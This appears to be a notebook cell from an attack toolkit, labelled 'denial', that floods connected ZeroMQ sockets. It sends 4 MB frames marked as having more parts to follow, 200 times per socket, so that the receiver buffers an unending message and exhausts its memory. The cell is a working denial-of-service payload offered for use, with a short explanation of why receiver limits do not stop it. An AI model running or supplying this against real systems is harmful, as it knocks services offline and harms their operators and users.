# %% [markdown]
# # **denial: sends a message that has no end**
#
# Writes frames to the connected sockets past ZeroMQ, each of which says that there is more of its
# message to come. The reader keeps what it has, and no limit of a frame counts them.
# after: sockets

# %%
import struct
import time

block = bytes(4_000_000)
frame = struct.pack(">BQ", 3, len(block)) + block
for one in own_sockets():
    one.settimeout(5)
    try:
        for _ in range(200):
            one.sendall(frame)
    except OSError:
        pass
